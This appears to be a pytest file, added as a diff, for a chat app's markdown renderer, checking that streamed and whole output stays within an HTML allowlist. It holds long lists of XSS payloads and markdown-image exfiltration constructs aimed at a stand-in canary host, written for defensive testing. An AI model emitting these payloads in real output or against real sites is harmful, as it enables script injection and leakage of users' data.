@@ -1,0 +1,258 @@
+"""What a model or a user writes does not run in a browser, and makes it ask nobody for anything."""
+
+from __future__ import annotations
+
+import re
+from itertools import product
+from urllib.parse import urlsplit
+
+import pytest
+
+from chat.rendering.markdown import render_markdown
+from chat.rendering.stream import MarkdownStream
+from tests.chat.rendering.pages import Elements
+
+#: Tags and attributes that may come out, written down apart from the code that makes them.
+BARE = [
+    *("p", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "li", "hr", "br"),
+    *("table", "thead", "tbody", "tr", "em", "strong", "del", "code"),
+]
+ALLOWED: dict[str, set[str]] = {
+    **{tag: set() for tag in BARE},
+    "a": {"href", "title", "target", "rel"},
+    "input": {"type", "checked", "disabled"},
+    "ol": {"start"},
+    "pre": {"class", "data-language"},
+    "span": {"class"},
+    "td": {"align"},
+    "th": {"align"},
+}
+CLASS = re.compile(r"math|math-inline|math-block|[a-z]{1,2}[a-z0-9]{0,2}")
+
+SCRIPTS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//e.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x00>alert(1)</script>",
+    "<script/x>alert(1)</script >",
+    "<!--><script>alert(1)</script>-->",
+    "<!--<img src=--><img src=x onerror=alert(1)//>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://e.example'>]>&y;",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x onerror\n=\nalert(1)>",
+    "<img src=`x` onerror=`alert(1)`>",
+    "<img src='x' onload='alert(1)' style='x:expression(alert(1))'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<form action='javascript:alert(1)'><input type=submit></form>",
+    "<form><button formaction='javascript:alert(1)'>x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a id=x name=y href=x ping=//e.example>x</a>",
+    "<base href='//e.example/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href='//e.example/x.css'>",
+    "<style>@import '//e.example/x.css';</style>",
+    "<div style='background:url(javascript:alert(1))'>x</div>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<p title='</p><script>alert(1)</script>'>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<title></title><script>alert(1)</script>",
+    "<x hx-get=/admin hx-trigger=load>x</x>",
+    "<div hx-get='/accounts/logout/' hx-trigger='load'>x</div>",
+    "<div data-hx-post='/c/new/' data-hx-trigger='revealed'>x</div>",
+    "<div hx-on:load='alert(1)' hx-on::after-request='alert(1)'>x</div>",
+    "<div hx-vals='js:{x:alert(1)}' hx-ext='x' hx-ws='connect:/ws'>x</div>",
+    "<button data-action=stop form=composer>x</button>",
+    "<article data-message-id=1 id=transcript class=message>x</article>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java&#x0A;script:alert(1))",
+    "[x](java&Tab;script:alert(1))",
+    "[x](&#x1;javascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\\javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](blob:http://e.example/1)",
+    "[x](file:///etc/passwd)",
+    "[x](intent://e#Intent;scheme=javascript;end)",
+    "[x](view-source:http://e.example)",
+    '[x](http://e.example "onmouseover=alert(1)")',
+    "[x](http://e.example '\"onmouseover=alert(1) x=\"')",
+    '[x](http://e.example/"onmouseover="alert(1))',
+    "[x](http://e.example/'onmouseover='alert(1))",
+    "[x](http://e.example/><script>alert(1)</script>)",
+    "[a]: javascript:alert(1)\n\n[a]",
+    "[a]: <javascript:alert(1)> 'x'\n\n[x][a]",
+    "> [a]: data:text/html,<script>alert(1)</script>\n\n[a][]",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "<http://e.example/<script>alert(1)</script>>",
+    'http://e.example/"onmouseover=alert(1)',
+    "http://e.example/<script>alert(1)</script>",
+    "www.e.example/'><script>alert(1)</script>",
+    "a@e.example?body=<script>",
+    '![x](x"onerror="alert(1))',
+    '![x"onerror="alert(1)](x)',
+    "![x](x '\" onerror=\"alert(1)')",
+    "![x](javascript:alert(1))",
+    "[![x](x)](javascript:alert(1))",
+    "`<script>alert(1)</script>`",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```python onload=alert(1) \" onload=\"alert(1)\n'</span><script>'\n```",
+    "~~~html\n<script>alert(1)</script>\n~~~",
+    "    <script>alert(1)</script>",
+    "```math\n</span><script>alert(1)</script>\n```",
+    "$</span><script>alert(1)</script>$",
+    "$$<img src=x onerror=alert(1)>$$",
+    "| a |\n|---|\n| <script>alert(1)</script> |",
+    "| [x](javascript:alert(1)) |\n|:-:|\n",
+    "- [x] <script>alert(1)</script>",
+    "1. <svg onload=alert(1)>",
+    "# <script>alert(1)</script> {#transcript onclick=alert(1)}",
+    "<script>alert(1)</script>\n===",
+    "**<script>**alert(1)**</script>**",
+    "<scr**i**pt>alert(1)</scr**i**pt>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)\\</script>",
+    "\ufeff<script>alert(1)</script>",
+    "<\u200bscript>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+    "<ſcript>alert(1)</ſcript>",
+    "[x]: http://e.example/ 'a' onclick=alert(1)\n[x]",
+    '[x][y]\n\n[y]: http://e.example/?a="onclick=alert(1) (</a><script>)',
+    '<a data-sourcepos="1:1-1:1" href="javascript:alert(1)">x</a>',
+    '<img src="http://e.example/" alt="x" />',
+    '<pre><code class="language-python">import os</code></pre>',
+]
+
+ADDRESS = "http://canary.example/"
+EXFILTRATION = [
+    *(
+        template.format(ADDRESS + tail)
+        for template, tail in product(
+            [
+                "![x]({})",
+                '![x]({} "t")',
+                "![x](<{}>)",
+                "![]({})",
+                "[![x]({})](https://e.example)",
+                "![x][r]\n\n[r]: {}",
+                "![r]\n\n[r]: <{}> 't'",
+                "> ![r][]\n\n- [r]: {}",
+                "| ![x]({}) |\n|---|\n",
+                "- [ ] ![x]({})",
+                "# ![x]({})",
+                "**![x]({})**",
+                "<img src='{}'>",
+                '<img srcset="{} 2x">',
+                "<picture><source srcset='{}'></picture>",
+                "<video poster='{}'></video>",
+                "<audio src='{}'></audio>",
+                "<iframe src='{}'></iframe>",
+                "<object data='{}'></object>",
+                "<embed src='{}'>",
+                "<link rel=prefetch href='{}'>",
+                "<link rel=dns-prefetch href='{}'>",
+                "<style>*{{background:url({})}}</style>",
+                "<div style='background:url({})'>x</div>",
+                "<table background='{}'><td>x</td></table>",
+                "<input type=image src='{}'>",
+                "<svg><image href='{}'/></svg>",
+                "<svg><use href='{}#x'/></svg>",
+                "<meta http-equiv=refresh content='0;url={}'>",
+                "<script src='{}'></script>",
+                "<form action='{}'><input autofocus></form>",
+                "<body background='{}'>",
+            ],
+            ["?q=secret", "a/b.png?q=x&y=z", "%2e%2e/?<script>", "\u2028?q"],
+        )
+    )
+]
+
+
+def assert_only_allowed(html: str) -> None:
+    """Every tag, attribute and value is on the list; nothing has an address but links, which wait for a click."""
+    elements = Elements(html)
+    assert not elements.oddities
+    for tag, attributes in elements.tags:
+        assert tag in ALLOWED
+        assert set(attributes) <= ALLOWED[tag]
+        assert all(CLASS.fullmatch(name) for name in attributes.get("class", "").split())
+        if tag == "a":
+            assert attributes["rel"] == "noopener noreferrer nofollow"
+            assert attributes["target"] == "_blank"
+            assert "href" not in attributes or urlsplit(attributes["href"]).scheme in ("http", "https", "mailto")
+        if tag == "input":
+            assert attributes["type"] == "checkbox"
+            assert "disabled" in attributes
+
+
+def wrapped(payload: str) -> list[str]:
+    """The payload alone, and where other markdown surrounds it."""
+    indented = payload.replace("\n", "\n  ")
+    quoted = payload.replace("\n", "\n> ")
+    return [
+        payload,
+        f"- {indented}",
+        f"> {quoted}",
+        f"text *a\n{payload}\nb*",
+        f"a\n\n{payload}\n\n[r]: http://e.example",
+    ]
+
+
+@pytest.mark.parametrize("payload", SCRIPTS + EXFILTRATION)
+def test_payload_gives_only_allowed_html_whole_and_at_every_moment_of_streaming(payload: str) -> None:
+    for text in wrapped(payload):
+        assert_only_allowed(render_markdown(text))
+        stream = MarkdownStream()
+        closed = ""
+        for start in range(0, len(text), 8):
+            stream.append(text[start : start + 8])
+            update = stream.update()
+            closed = update.closed if update.reset else closed + update.closed
+            assert_only_allowed(closed)
+            assert_only_allowed(update.tail)
+            assert_only_allowed(closed + update.tail)
+
+
+def test_corpora_are_as_large_as_was_asked() -> None:
+    assert len(set(SCRIPTS)) >= 120
+    assert len(set(EXFILTRATION)) >= 100
+
+
+@pytest.mark.parametrize("payload", [payload for payload in EXFILTRATION if payload.startswith("![x](http")])
+def test_address_of_an_image_is_shown_not_linked(payload: str) -> None:
+    elements = Elements(render_markdown(payload))
+    assert [tag for tag, _ in elements.tags] == ["p"]
+    assert ADDRESS in elements.text
